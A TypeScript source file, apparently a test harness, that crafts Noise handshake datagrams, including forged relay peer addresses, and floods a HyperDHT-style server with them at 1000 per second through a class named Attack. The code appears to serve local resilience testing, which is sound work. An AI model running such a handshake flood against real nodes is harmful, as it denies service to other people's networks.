import { hash, keyPair, NoiseInitiator, randomBytes } from '@punchlist/hyperdht/crypto'
import { type Address, COMMANDS, handshake, HOP_MODES, noisePayload, request } from '@punchlist/hyperdht/wire'
import { createSocket, type Socket } from 'node:dgram'
import type { Listening } from './messages.js'

export const KINDS = ['random', 'valid', 'invented', 'direct'] as const
/**
 * - `random`: bytes where the Noise message is.
 * - `valid`: good first messages, each of another client that never comes.
 * - `invented`: the same, each as if it came from another address by way of a relay.
 * - `direct`: the same, straight to the server's own socket: it connects to each at once (HS-128).
 */
export type Kind = (typeof KINDS)[number]

export const PER_SECOND = 1000
/** ms between two bursts: nothing paces single datagrams better than a timer does. */
const BURST = 10

/** So many datagrams of a kind. Valid messages are the expensive part, and made before anybody is timed. */
export function ammunition(kind: Kind, count: number, server: Listening): Buffer[] {
  const publicKey = Buffer.from(server.publicKey, 'hex')
  const target = hash(publicKey)
  return Array.from({ length: count }, (_, i) => {
    const noise = kind === 'random' ? randomBytes(120) : firstMessage(publicKey, i)
    const direct = kind === 'direct'
    const value = handshake.encode({
      mode: direct ? HOP_MODES.FROM_CLIENT : HOP_MODES.FROM_RELAY,
      noise,
      peerAddress: direct ? null : clientAddress(kind, i),
      relayAddress: null
    })
    const to = direct ? server.server : server.main
    const message = request.create({
      tid: i & 0xffff,
      to,
      command: COMMANDS.PEER_HANDSHAKE,
      target,
      value,
      internal: false
    })
    return request.encode(message)
  })
}

function firstMessage(remotePublicKey: Buffer, i: number): Buffer {
  const payload = noisePayload.create({
    addresses4: [{ host: '10.1.1.1', port: 4000 }],
    udx: { version: 1, reusableSocket: false, id: i, seq: 0 },
    secretStream: { version: 1 }
  })
  return new NoiseInitiator({ keyPair: keyPair(), remotePublicKey }).send(noisePayload.encode(payload))
}

/** Of this machine, on which nobody listens: whatever a server sends there, it does not leave the machine. */
function clientAddress(kind: Kind, i: number): Address {
  return kind === 'invented'
    ? { host: `127.9.${(i >> 7) & 0x7f}.${1 + (i & 0x7f)}`, port: 1024 + (i % 60_000) }
    : { host: '127.9.9.9', port: 5000 }
}

/** Sends datagrams at {@link PER_SECOND} until it is stopped, or has none left. */
export class Attack {
  sent = 0
  private readonly socket: Socket = createSocket('udp4')
  private readonly timer: NodeJS.Timeout
  private readonly began = performance.now()

  constructor(
    private readonly datagrams: readonly Buffer[],
    private readonly to: Address
  ) {
    this.socket.on('error', () => {})
    this.timer = setInterval(() => this.burst(), BURST)
  }

  /** Datagrams a second so far. */
  get rate(): number {
    return this.sent / ((performance.now() - this.began) / 1000)
  }

  stop(): void {
    clearInterval(this.timer)
    this.socket.close()
  }

  /** As many as are due: a timer that comes late makes up for it. */
  private burst(): void {
    const due = Math.min(this.datagrams.length, ((performance.now() - this.began) / 1000) * PER_SECOND)
    for (; this.sent < due; this.sent++) this.socket.send(this.datagrams[this.sent]!, this.to.port, this.to.host)
  }
}
